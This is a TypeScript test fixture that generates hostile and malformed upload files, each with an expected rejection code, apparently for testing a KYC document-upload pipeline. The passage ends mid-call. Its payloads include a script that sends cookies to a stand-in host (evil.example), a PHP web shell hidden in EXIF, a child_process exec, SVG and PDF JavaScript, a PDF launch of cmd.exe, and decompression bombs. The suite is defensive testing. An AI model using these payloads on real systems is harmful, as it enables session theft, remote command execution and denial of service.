/**
 * Hostile and unusual upload files, generated in code (sharp and Buffers; nothing downloaded),
 * each with the reason code the pipeline must answer with. Shared by the hostile-input suite
 * (through the local runtime like a frontend, and through `kyc check`).
 *
 * Sizes matter: the size floor (`uploads.minFileBytes`, 100 KB) is checked before the container
 * structure, so every file meant to reach the structure or pixel checks is at least that large
 * (noise pixels do not compress); files meant to be refused for their size are built that way.
 */
import { crc32, createDeflate, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import type { KycConfig } from '../../lib/config.ts';
import type { ReasonCode } from '../../lambdas/domain/reason-codes.ts';
import type { Slot } from '../../lambdas/domain/verification.ts';

export interface HostileFile {
  /** Unique, kebab-case; also the upload's file name stem. */
  readonly name: string;
  /** What the file is, for the tally. */
  readonly family: string;
  readonly slot: Slot;
  /** The content type a careless or lying client declares. */
  readonly declaredType: string;
  /** The name the client sends. */
  readonly fileName: string;
  readonly bytes: Buffer;
  /** The reason code the pipeline must give (among the verdict's reasons). */
  readonly expected: ReasonCode;
}

/** Deterministic PRNG (mulberry32), so every run generates the same files. */
function prng(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Random pixel values in [low, high] (noise does not compress, so files stay large). */
function noise(width: number, height: number, channels: number, low: number, high: number, seed: number): Buffer {
  const random = prng(seed);
  const data = Buffer.alloc(width * height * channels);
  for (let i = 0; i < data.length; i++) data[i] = low + Math.floor(random() * (high - low + 1));
  return data;
}

function randomBytes(length: number, seed: number): Buffer {
  return noise(length, 1, 1, 0, 255, seed);
}

type Raw = { width: number; height: number; channels: 1 | 3 | 4 };

function raw(width: number, height: number, channels: 1 | 3 | 4, low: number, high: number, seed: number) {
  return sharp(noise(width, height, channels, low, high, seed), { raw: { width, height, channels } as Raw });
}

/** A PDF object stream (PDF 1.5+) holding `objects`, FlateDecode-compressed. */
function objectStream(objects: string | Buffer): string {
  const data = deflateSync(typeof objects === 'string' ? Buffer.from(objects, 'latin1') : objects, { level: 9 });
  return `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`;
}

/** A PNG chunk with its length and CRC-32. */
function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngHeader(width: number, height: number, bitDepth: number, colourType: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([bitDepth, colourType, 0, 0, 0], 8);
  return pngChunk('IHDR', header);
}

/** Offsets of each chunk of a PNG: `{ type, offset, length }`. */
function pngChunks(png: Buffer): { type: string; offset: number; length: number }[] {
  const chunks: { type: string; offset: number; length: number }[] = [];
  let offset = 8;
  while (offset + 12 <= png.length) {
    const length = png.readUInt32BE(offset);
    chunks.push({ type: png.toString('latin1', offset + 4, offset + 8), offset, length });
    offset += 12 + length;
  }
  return chunks;
}

/** Inserts `extra` chunks right after the IHDR. */
function withChunksAfterHeader(png: Buffer, ...extra: Buffer[]): Buffer {
  return Buffer.concat([png.subarray(0, 33), ...extra, png.subarray(33)]);
}

/** Offset of the first JPEG marker `marker` (0xFFxx) among the header segments. */
function jpegMarker(jpeg: Buffer, predicate: (marker: number) => boolean): number {
  let offset = 2;
  while (offset + 4 <= jpeg.length) {
    const marker = jpeg[offset + 1] ?? 0;
    if (predicate(marker)) return offset;
    if (marker === 0xda) break;
    offset += 2 + jpeg.readUInt16BE(offset + 2);
  }
  throw new Error('marker not found');
}

const isSof = (marker: number) => marker >= 0xc0 && marker <= 0xc2;

/** A JPEG whose frame header declares `width` x `height`. */
function withJpegDimensions(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg);
  const sof = jpegMarker(copy, isSof);
  copy.writeUInt16BE(height, sof + 5);
  copy.writeUInt16BE(width, sof + 7);
  return copy;
}

/** A JPEG segment (APPn or COM) carrying `data`. */
function jpegSegment(marker: number, data: Buffer): Buffer {
  const header = Buffer.from([0xff, marker, 0, 0]);
  header.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([header, data]);
}

/** Inserts a segment right after SOI. */
function withJpegSegment(jpeg: Buffer, marker: number, data: Buffer): Buffer {
  return Buffer.concat([jpeg.subarray(0, 2), jpegSegment(marker, data), jpeg.subarray(2)]);
}

/** A minimal TIFF-structured EXIF block (`Exif\0\0` + little-endian IFD0) with one SHORT or ASCII tag. */
function exifWith(tag: number, value: number | string): Buffer {
  const ascii = typeof value === 'string' ? Buffer.from(`${value}\0`, 'latin1') : undefined;
  const tiff = Buffer.alloc(8 + 2 + 12 + 4 + (ascii?.length ?? 0));
  tiff.write('II', 0, 'latin1');
  tiff.writeUInt16LE(42, 2);
  tiff.writeUInt32LE(8, 4);
  tiff.writeUInt16LE(1, 8);
  tiff.writeUInt16LE(tag, 10);
  if (ascii) {
    tiff.writeUInt16LE(2, 12);
    tiff.writeUInt32LE(ascii.length, 14);
    tiff.writeUInt32LE(26, 18);
    ascii.copy(tiff, 26);
  } else {
    tiff.writeUInt16LE(3, 12);
    tiff.writeUInt32LE(1, 14);
    tiff.writeUInt16LE(value as number, 18);
  }
  tiff.writeUInt32LE(0, 22);
  return Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
}

/** A ZIP archive with one stored file (local header, central directory, end record). */
function zipArchive(name: string, content: Buffer): Buffer {
  const fileName = Buffer.from(name, 'latin1');
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const localSize = local.length + fileName.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(localSize, 16);
  return Buffer.concat([local, fileName, content, central, fileName, end]);
}

/**
 * A one-page PDF (a plain utility bill); `objects` are added to the body, `padding` bytes of page
 * content keep it above the size floor, `eof: false` truncates it.
 *
 * @example
 * ```ts
 * const bill = pdf(); // about 120 KB, accepted for proof of address
 * ```
 */
export function pdf(
  options: { catalogExtra?: string; objects?: string[]; padding?: number; eof?: boolean } = {},
): Buffer {
  const filler = 'BT /F1 12 Tf 72 712 Td (Utility bill: account 0000, 1 High Street) Tj ET\n';
  const content = filler.repeat(Math.ceil((options.padding ?? 120_000) / filler.length));
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${options.catalogExtra ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
    `<< /Length ${content.length} >>\nstream\n${content}endstream`,
    ...(options.objects ?? []),
  ];
  let body = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(body.length);
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n`;
  if (options.eof !== false) body += '%%EOF\n';
  return Buffer.from(body, 'latin1');
}

/** An ISO-BMFF (HEIC/AVIF) header: `ftyp` box with `brand`, then a large `mdat` of noise. */
function isoMedia(brand: string, seed: number): Buffer {
  const ftyp = Buffer.alloc(24);
  ftyp.writeUInt32BE(24, 0);
  ftyp.write('ftyp', 4, 'latin1');
  ftyp.write(brand, 8, 'latin1');
  ftyp.write('mif1', 16, 'latin1');
  ftyp.write(brand, 20, 'latin1');
  const payload = randomBytes(150_000, seed);
  const mdat = Buffer.alloc(8);
  mdat.writeUInt32BE(payload.length + 8, 0);
  mdat.write('mdat', 4, 'latin1');
  return Buffer.concat([ftyp, mdat, payload]);
}

/**
 * A real decompression bomb: a valid greyscale PNG of `side` x `side` black pixels whose IDAT
 * inflates to side² bytes from a few hundred KB (deflate of zeros compresses about 1000:1).
 */
async function pngBomb(side: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (part: Buffer) => parts.push(part));
  const done = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  const rows = Buffer.alloc((side + 1) * 500); // 500 rows of filter byte 0 and black pixels
  for (let written = 0; written < side; written += 500) deflate.write(rows);
  deflate.end();
  await done;
  return Buffer.concat([
    PNG_SIGNATURE,
    pngHeader(side, side, 8, 0),
    pngChunk('IDAT', Buffer.concat(parts)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A palette PNG (colour type 3) of random dark colours, built by hand (quantising noise is slow). */
function palettePng(width: number, height: number, seed: number): Buffer {
  const palette = Buffer.alloc(16 * 3);
  for (let i = 0; i < 16; i++) palette.set([i, i + 2, i + 4], i * 3);
  const indices = noise(width + 1, height, 1, 0, 15, seed);
  for (let y = 0; y < height; y++) indices[y * (width + 1)] = 0; // filter type None
  return Buffer.concat([
    PNG_SIGNATURE,
    pngHeader(width, height, 8, 3),
    pngChunk('PLTE', palette),
    pngChunk('IDAT', deflateSync(indices, { level: 1 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** An animated PNG (APNG): the default image, then a second frame in `fcTL`/`fdAT` chunks. */
function animatedPng(png: Buffer, width: number, height: number): Buffer {
  const chunks = pngChunks(png);
  const actl = Buffer.alloc(8);
  actl.writeUInt32BE(2, 0);
  const fctl = (sequence: number) => {
    const data = Buffer.alloc(26);
    data.writeUInt32BE(sequence, 0);
    data.writeUInt32BE(width, 4);
    data.writeUInt32BE(height, 8);
    data.writeUInt16BE(1, 20);
    data.writeUInt16BE(10, 22);
    return pngChunk('fcTL', data);
  };
  const idats = chunks.filter((chunk) => chunk.type === 'IDAT');
  const firstIdat = idats[0]?.offset ?? 33;
  const iend = chunks.find((chunk) => chunk.type === 'IEND')?.offset ?? png.length - 12;
  const frameData = Buffer.concat(
    idats.map((chunk) => png.subarray(chunk.offset + 8, chunk.offset + 8 + chunk.length)),
  );
  const sequence = Buffer.alloc(4);
  sequence.writeUInt32BE(2);
  return Buffer.concat([
    png.subarray(0, firstIdat),
    pngChunk('acTL', actl),
    fctl(0),
    png.subarray(firstIdat, iend),
    fctl(1),
    pngChunk('fdAT', Buffer.concat([sequence, frameData])),
    png.subarray(iend),
  ]);
}

/**
 * Every hostile file with its expected reason code (at least 60).
 *
 * @example
 * ```ts
 * for (const file of await hostileFiles(DEFAULT_CONFIG)) {
 *   const verdict = await runQualityGate(file.bytes, { slot: file.slot, documentType: 'passport', config });
 *   expect(verdict.reasons).toContain(file.expected);
 * }
 * ```
 */
export async function hostileFiles(config: KycConfig): Promise<HostileFile[]> {
  const files: HostileFile[] = [];
  const add = (
    name: string,
    family: string,
    expected: ReasonCode,
    bytes: Buffer,
    options: { slot?: Slot; declaredType?: string; fileName?: string } = {},
  ) =>
    files.push({
      name,
      family,
      expected,
      // S3 itself refuses POSTs under the size floor (the presigned policy's range), so a file
      // meant to reach the gate is padded past it with trailing noise (no second-format magic).
      bytes:
        expected === 'FILE_TOO_SMALL' || bytes.length >= config.uploads.minFileBytes
          ? bytes
          : Buffer.concat([bytes, randomBytes(config.uploads.minFileBytes + 1024 - bytes.length, files.length + 100)]),
      slot: options.slot ?? 'selfie',
      declaredType: options.declaredType ?? 'image/jpeg',
      fileName: options.fileName ?? `${name}.jpg`,
    });

  // Base images: bright noise (about 1 MB as JPEG) for structure damage, dark noise for
  // well-formed but unusual encodings that must be decoded and judged on their pixels.
  const jpeg = await raw(1200, 900, 3, 0, 255, 1).jpeg({ quality: 85 }).toBuffer();
  const png = await raw(700, 640, 3, 0, 255, 2).png({ compressionLevel: 1 }).toBuffer();
  const dark = (seed: number, channels: 1 | 3 = 3) => raw(800, 640, channels, 0, 22, seed);
  const sof = jpegMarker(jpeg, isSof);
  const sos = jpegMarker(jpeg, (marker) => marker === 0xda);
  const html =
    '<!doctype html><html><body><script>fetch("https://evil.example/"+document.cookie)</script></body></html>';

  // Truncated and corrupt JPEG.
  add('jpeg-truncated-half', 'truncated JPEG', 'FILE_CORRUPT', jpeg.subarray(0, Math.floor(jpeg.length / 2)));
  add('jpeg-truncated-no-eoi', 'truncated JPEG', 'FILE_CORRUPT', jpeg.subarray(0, jpeg.length - 2));
  add('jpeg-truncated-in-header', 'truncated JPEG', 'FILE_TOO_SMALL', jpeg.subarray(0, sos + 4));
  add(
    'jpeg-truncated-padded-eoi',
    'truncated JPEG',
    'FILE_CORRUPT',
    Buffer.concat([jpeg.subarray(0, Math.floor(jpeg.length * 0.6)), Buffer.from([0xff, 0xd9])]),
  );
  {
    const bad = Buffer.from(jpeg);
    bad[sof] = 0x12; // no longer a marker
    add('jpeg-bad-marker', 'corrupt JPEG', 'FILE_CORRUPT', bad);
  }
  {
    const bad = Buffer.from(jpeg);
    bad.writeUInt16BE(0xfff0, sof + 2); // the frame header claims 64 KB: the walk lands in pixel data
    add('jpeg-segment-overrun', 'corrupt JPEG', 'FILE_CORRUPT', bad);
  }
  {
    // Stray markers inside the entropy-coded data: libjpeg warns of corrupt data.
    const bad = Buffer.from(jpeg);
    for (let at = sos + 5_000; at < bad.length - 5_000; at += 50_000) bad.set([0xff, 0xd5, 0xff, 0xc4], at);
    add('jpeg-stray-markers-in-scan', 'corrupt JPEG', 'FILE_CORRUPT', bad);
  }
  {
    const bad = Buffer.from(jpeg);
    bad.writeUInt16BE(0, sof + 5);
    add('jpeg-zero-height', 'corrupt JPEG', 'FILE_CORRUPT', bad);
  }
  {
    const bad = Buffer.from(jpeg);
    bad[sof + 9] = 7; // seven components
    add('jpeg-bad-component-count', 'corrupt JPEG', 'FILE_CORRUPT', bad);
  }
  add(
    'jpeg-no-image-data',
    'corrupt JPEG',
    'FILE_CORRUPT',
    Buffer.concat([jpeg.subarray(0, sos), Buffer.from([0xff, 0xd9]), randomBytes(120_000, 4).fill(0)]),
  );
  add(
    'jpeg-soi-only',
    'corrupt JPEG',
    'FILE_CORRUPT',
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), randomBytes(120_000, 5)]),
  );

  // Huge declared dimensions and decompression bombs.
  add(
    'jpeg-declares-65535-square',
    'huge dimensions',
    'IMAGE_DIMENSIONS_INVALID',
    withJpegDimensions(jpeg, 65_535, 65_535),
  );
  add(
    'jpeg-declares-60000x1000',
    'huge dimensions',
    'IMAGE_DIMENSIONS_INVALID',
    withJpegDimensions(jpeg, 60_000, 1_000),
  );
  add('jpeg-declares-1x1', 'huge dimensions', 'IMAGE_DIMENSIONS_INVALID', withJpegDimensions(jpeg, 1, 1));
  add('png-bomb-12000-square', 'decompression bomb', 'IMAGE_DIMENSIONS_INVALID', await pngBomb(12_000), {
    declaredType: 'image/png',
    fileName: 'bomb.png',
  });
  {
    const bomb = Buffer.from(png);
    bomb.writeUInt32BE(100_000, 16);
    bomb.writeUInt32BE(100_000, 20);
    bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
    add('png-declares-100000-square', 'decompression bomb', 'IMAGE_DIMENSIONS_INVALID', bomb, {
      declaredType: 'image/png',
    });
  }
  {
    const tiny = await raw(40, 40, 3, 0, 255, 6).jpeg().toBuffer();
    const padded = withJpegSegment(tiny, 0xfe, Buffer.from(randomBytes(60_000, 7).map((byte) => 0x41 + (byte % 26))));
    add(
      'jpeg-40px-padded',
      'huge dimensions',
      'IMAGE_DIMENSIONS_INVALID',
      withJpegSegment(padded, 0xfe, Buffer.alloc(60_000, 0x42)),
    );
  }

  // Corrupt PNG.
  add('png-truncated-half', 'truncated PNG', 'FILE_CORRUPT', png.subarray(0, Math.floor(png.length / 2)), {
    declaredType: 'image/png',
  });
  add('png-no-iend', 'truncated PNG', 'FILE_CORRUPT', png.subarray(0, png.length - 12), { declaredType: 'image/png' });
  for (const chunkType of ['IHDR', 'IDAT']) {
    const bad = Buffer.from(png);
    const chunk = pngChunks(bad).find((entry) => entry.type === chunkType);
    if (!chunk) throw new Error(`${chunkType} missing`);
    bad.writeUInt32BE(
      (bad.readUInt32BE(chunk.offset + 8 + chunk.length) ^ 0xdeadbeef) >>> 0,
      chunk.offset + 8 + chunk.length,
    );
    add(`png-bad-crc-${chunkType.toLowerCase()}`, 'bad CRC', 'FILE_CORRUPT', bad, { declaredType: 'image/png' });
  }
  {
    const bad = Buffer.from(png);
    const idat = pngChunks(bad).find((entry) => entry.type === 'IDAT');
    if (!idat) throw new Error('IDAT missing');
    bad[idat.offset + 8 + 500] = (bad[idat.offset + 8 + 500] ?? 0) ^ 0xff; // data flipped, CRC left as it was
    add('png-flipped-data-byte', 'bad CRC', 'FILE_CORRUPT', bad, { declaredType: 'image/png' });
  }
  {
    const bad = Buffer.from(png);
    bad[24] = 3; // bit depth 3 does not exist
    bad.writeUInt32BE(crc32(bad.subarray(12, 29)), 29);
    add('png-bad-bit-depth', 'corrupt PNG', 'FILE_CORRUPT', bad, { declaredType: 'image/png' });
  }
  {
    const idats = pngChunks(png).filter((entry) => entry.type === 'IDAT');
    const data = Buffer.concat(idats.map((chunk) => png.subarray(chunk.offset + 8, chunk.offset + 8 + chunk.length)));
    const short = Buffer.concat([
      png.subarray(0, 33),
      pngChunk('IDAT', data.subarray(0, Math.floor(data.length * 0.6))),
      pngChunk('IEND', Buffer.alloc(0)),
    ]);
    add('png-idat-short', 'truncated PNG', 'FILE_CORRUPT', short, { declaredType: 'image/png' });
  }
  {
    const bad = Buffer.concat([PNG_SIGNATURE, pngChunk('IEND', Buffer.alloc(0)), randomBytes(120_000, 8)]);
    add('png-no-ihdr', 'corrupt PNG', 'FILE_CORRUPT', bad, { declaredType: 'image/png' });
  }

  // Polyglots: a valid image that is also another format.
  const zip = zipArchive('payload.js', Buffer.from('require("child_process").exec("id")'));
  add('jpeg-zip-appended', 'JPEG/ZIP polyglot', 'UNSUPPORTED_FORMAT', Buffer.concat([jpeg, zip]));
  add('jpeg-zip-in-app15', 'JPEG/ZIP polyglot', 'UNSUPPORTED_FORMAT', withJpegSegment(jpeg, 0xef, zip));
  add('jpeg-pdf-appended', 'JPEG/PDF polyglot', 'UNSUPPORTED_FORMAT', Buffer.concat([jpeg, pdf({ padding: 500 })]));
  add(
    'jpeg-pdf-in-comment',
    'JPEG/PDF polyglot',
    'UNSUPPORTED_FORMAT',
    withJpegSegment(jpeg, 0xfe, pdf({ padding: 500 })),
  );
  add('jpeg-html-appended', 'JPEG/HTML polyglot', 'UNSUPPORTED_FORMAT', Buffer.concat([jpeg, Buffer.from(html)]));
  add(
    'jpeg-html-in-comment',
    'JPEG/HTML polyglot',
    'UNSUPPORTED_FORMAT',
    withJpegSegment(jpeg, 0xfe, Buffer.from(html)),
  );
  add(
    'jpeg-php-in-exif',
    'JPEG/PHP polyglot',
    'UNSUPPORTED_FORMAT',
    withJpegSegment(jpeg, 0xe1, exifWith(0x010e, '<?php system($_GET["c"]); ?>')),
  );
  add(
    'jpeg-elf-appended',
    'JPEG/ELF polyglot',
    'UNSUPPORTED_FORMAT',
    Buffer.concat([jpeg, Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), randomBytes(4000, 9)]),
  );
  add(
    'jpeg-rar-appended',
    'JPEG/RAR polyglot',
    'UNSUPPORTED_FORMAT',
    Buffer.concat([jpeg, Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), randomBytes(2000, 10)]),
  );
  add('jpeg-random-trailer', 'trailing data', 'UNSUPPORTED_FORMAT', Buffer.concat([jpeg, randomBytes(20_000, 11)]));
  add('png-zip-appended', 'PNG/ZIP polyglot', 'UNSUPPORTED_FORMAT', Buffer.concat([png, zip]), {
    declaredType: 'image/png',
  });
  add(
    'png-html-in-text',
    'PNG/HTML polyglot',
    'UNSUPPORTED_FORMAT',
    withChunksAfterHeader(png, pngChunk('tEXt', Buffer.from(`Comment\0${html}`, 'latin1'))),
    { declaredType: 'image/png' },
  );
  add(
    'png-script-in-private-chunk',
    'PNG/HTML polyglot',
    'UNSUPPORTED_FORMAT',
    withChunksAfterHeader(png, pngChunk('prVt', Buffer.from(html, 'latin1'))),
    { declaredType: 'image/png' },
  );

  // Compressed ancillary chunks: opened (within a budget) before the payload search.
  add(
    'png-html-in-ztxt',
    'PNG/HTML polyglot',
    'UNSUPPORTED_FORMAT',
    withChunksAfterHeader(
      png,
      pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(html)])),
    ),
    { declaredType: 'image/png' },
  );
  add(
    'png-script-in-compressed-itxt',
    'PNG/HTML polyglot',
    'UNSUPPORTED_FORMAT',
    withChunksAfterHeader(
      png,
      pngChunk('iTXt', Buffer.concat([Buffer.from('Description\0\x01\0en\0\0', 'latin1'), deflateSync(html)])),
    ),
    { declaredType: 'image/png' },
  );
  for (const chunkType of ['zTXt', 'iCCP']) {
    // 200 MB of zeros in 200 KB: libvips inflates an iCCP chunk whole before the first pixel.
    const bomb = Buffer.concat([
      Buffer.from('bomb\0\0', 'latin1'),
      deflateSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 }),
    ]);
    add(
      `png-${chunkType.toLowerCase()}-bomb`,
      'metadata bomb',
      'UNSUPPORTED_FORMAT',
      withChunksAfterHeader(png, pngChunk(chunkType, bomb)),
      {
        declaredType: 'image/png',
      },
    );
  }

  // Formats the pipeline does not take (decided by the bytes, whatever the name says).
  // Refused on their magic bytes before any size check, so small ones do (AVIF and GIF encoders are slow).
  const source = () => raw(96, 96, 3, 0, 255, 12);
  add('gif', 'GIF', 'UNSUPPORTED_FORMAT', await source().gif().toBuffer(), {
    fileName: 'photo.gif',
    declaredType: 'image/gif',
  });
  add('gif-named-jpg', 'GIF', 'UNSUPPORTED_FORMAT', await raw(64, 64, 3, 0, 255, 13).gif().toBuffer());
  add('tiff', 'TIFF', 'UNSUPPORTED_FORMAT', await source().tiff().toBuffer(), { declaredType: 'image/tiff' });
  add(
    'tiff-jpeg-compressed',
    'TIFF',
    'UNSUPPORTED_FORMAT',
    await raw(120, 90, 3, 0, 255, 32).tiff({ compression: 'jpeg' }).toBuffer(),
  );
  add('webp', 'WebP', 'UNSUPPORTED_FORMAT', await source().webp({ quality: 90 }).toBuffer(), {
    declaredType: 'image/webp',
  });
  add(
    'webp-lossless',
    'WebP',
    'UNSUPPORTED_FORMAT',
    await raw(200, 200, 3, 0, 255, 14).webp({ lossless: true }).toBuffer(),
  );
  add('avif', 'AVIF', 'UNSUPPORTED_FORMAT', await raw(64, 64, 3, 0, 255, 15).avif({ quality: 60 }).toBuffer(), {
    declaredType: 'image/avif',
  });
  add('heic', 'HEIC', 'UNSUPPORTED_FORMAT', isoMedia('heic', 16), {
    declaredType: 'image/heic',
    fileName: 'IMG_0001.HEIC',
  });
  add('heic-named-jpg', 'HEIC', 'UNSUPPORTED_FORMAT', isoMedia('heix', 17));
  {
    const bmpHeader = Buffer.alloc(54);
    bmpHeader.write('BM', 0, 'latin1');
    add('bmp', 'BMP', 'UNSUPPORTED_FORMAT', Buffer.concat([bmpHeader, randomBytes(150_000, 18)]));
  }
  add(
    'svg-with-script',
    'SVG',
    'UNSUPPORTED_FORMAT',
    Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script>${'<rect width="1" height="1"/>'.repeat(5000)}</svg>`,
    ),
    { declaredType: 'image/svg+xml', fileName: 'selfie.svg' },
  );
  add(
    'svg-named-jpg',
    'SVG',
    'UNSUPPORTED_FORMAT',
    Buffer.from(
      `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>${' '.repeat(110_000)}</svg>`,
    ),
  );
  add('html-named-jpg', 'HTML', 'UNSUPPORTED_FORMAT', Buffer.from(`${html}${'<p>x</p>'.repeat(15_000)}`));
  add('text-renamed-jpg', 'text', 'UNSUPPORTED_FORMAT', Buffer.from('This is not a photo.\n'.repeat(6000)));
  add('zip-named-jpg', 'ZIP', 'UNSUPPORTED_FORMAT', zipArchive('a.jpg', jpeg));
  add('pdf-as-selfie', 'PDF', 'UNSUPPORTED_FORMAT', pdf(), { declaredType: 'application/pdf', fileName: 'selfie.pdf' });
  add(
    'elf-named-jpg',
    'executable',
    'UNSUPPORTED_FORMAT',
    Buffer.concat([Buffer.from('\x7fELF', 'latin1'), randomBytes(150_000, 19)]),
  );
  add(
    'jpeg-magic-reversed',
    'corrupt header',
    'UNSUPPORTED_FORMAT',
    Buffer.concat([Buffer.from([0xd8, 0xff]), jpeg.subarray(2)]),
  );

  // Sizes.
  add('zero-bytes', 'empty', 'FILE_TOO_SMALL', Buffer.alloc(0));
  add(
    'jpeg-under-100kb',
    'small',
    'FILE_TOO_SMALL',
    await raw(300, 300, 3, 0, 255, 20).jpeg({ quality: 60 }).toBuffer(),
  );
  add(
    'max-file-bytes-plus-one',
    'too large',
    'FILE_TOO_LARGE',
    Buffer.concat([jpeg, Buffer.alloc(config.uploads.maxFileBytes + 1 - jpeg.length)]),
  );

  // Well-formed but unusual encodings: decoded and judged on their (dark) pixels.
  add(
    'jpeg-exif-orientation-65535',
    'absurd EXIF orientation',
    'BACKGROUND_TOO_DARK',
    withJpegSegment(await dark(21).jpeg({ quality: 95 }).toBuffer(), 0xe1, exifWith(0x0112, 65_535)),
  );
  add(
    'jpeg-exif-orientation-0',
    'absurd EXIF orientation',
    'BACKGROUND_TOO_DARK',
    withJpegSegment(await dark(22).jpeg({ quality: 95 }).toBuffer(), 0xe1, exifWith(0x0112, 0)),
  );
  add(
    'jpeg-exif-orientation-9',
    'absurd EXIF orientation',
    'BACKGROUND_TOO_DARK',
    withJpegSegment(await dark(23).jpeg({ quality: 95 }).toBuffer(), 0xe1, exifWith(0x0112, 9)),
  );
  add(
    'jpeg-cmyk',
    'CMYK',
    'BACKGROUND_TOO_DARK',
    await dark(24).toColourspace('cmyk').jpeg({ quality: 95 }).toBuffer(),
  );
  add('jpeg-greyscale', 'greyscale', 'BACKGROUND_TOO_DARK', await dark(25, 1).jpeg({ quality: 95 }).toBuffer());
  add(
    'jpeg-progressive',
    'progressive',
    'BACKGROUND_TOO_DARK',
    await dark(26).jpeg({ quality: 95, progressive: true }).toBuffer(),
  );
  add('png-16-bit', '16-bit', 'BACKGROUND_TOO_DARK', await dark(27).toColourspace('rgb16').png().toBuffer(), {
    declaredType: 'image/png',
  });
  add('png-interlaced', 'interlaced PNG', 'BACKGROUND_TOO_DARK', await dark(28).png({ progressive: true }).toBuffer(), {
    declaredType: 'image/png',
  });
  add('png-palette', 'palette PNG', 'BACKGROUND_TOO_DARK', palettePng(800, 640, 29), { declaredType: 'image/png' });
  add(
    'jpeg-photoshop-software',
    'edited',
    'IMAGE_EDITED',
    withJpegSegment(await dark(30).jpeg({ quality: 95 }).toBuffer(), 0xe1, exifWith(0x0131, 'Adobe Photoshop 25.0')),
  );
  {
    const frame = await raw(640, 600, 3, 0, 255, 31).png({ compressionLevel: 1 }).toBuffer();
    add('png-animated', 'animated PNG', 'UNSUPPORTED_FORMAT', animatedPng(frame, 640, 600), {
      declaredType: 'image/png',
      fileName: 'selfie.png',
    });
  }

  // Proof of address (PDF allowed there, active content is not).
  const poa = { slot: 'proof_of_address' as const, declaredType: 'application/pdf', fileName: 'bill.pdf' };
  add(
    'pdf-javascript-openaction',
    'PDF with JavaScript',
    'UNSUPPORTED_FORMAT',
    pdf({ catalogExtra: '/OpenAction 5 0 R', objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] }),
    poa,
  );
  add(
    'pdf-javascript-hex-escaped',
    'PDF with JavaScript',
    'UNSUPPORTED_FORMAT',
    pdf({ catalogExtra: '/OpenAction 5 0 R', objects: ['<< /S /J#61vaScript /J#53 (app.alert(1)) >>'] }),
    poa,
  );
  add(
    'pdf-launch-action',
    'PDF with launch action',
    'UNSUPPORTED_FORMAT',
    pdf({ catalogExtra: '/OpenAction 5 0 R', objects: ['<< /S /Launch /F (cmd.exe) >>'] }),
    poa,
  );
  add(
    'pdf-embedded-file',
    'PDF with attachment',
    'UNSUPPORTED_FORMAT',
    pdf({ objects: ['<< /Type /EmbeddedFile /Length 0 >>'] }),
    poa,
  );
  add(
    'pdf-javascript-in-object-stream',
    'PDF with JavaScript',
    'UNSUPPORTED_FORMAT',
    pdf({ catalogExtra: '/OpenAction 6 0 R', objects: [objectStream('6 0 << /S /JavaScript /JS (app.alert(1)) >>')] }),
    poa,
  );
  add(
    'pdf-object-stream-bomb',
    'PDF decompression bomb',
    'UNSUPPORTED_FORMAT',
    pdf({ objects: [objectStream(Buffer.alloc(200 * 1024 * 1024))] }),
    poa,
  );
  add(
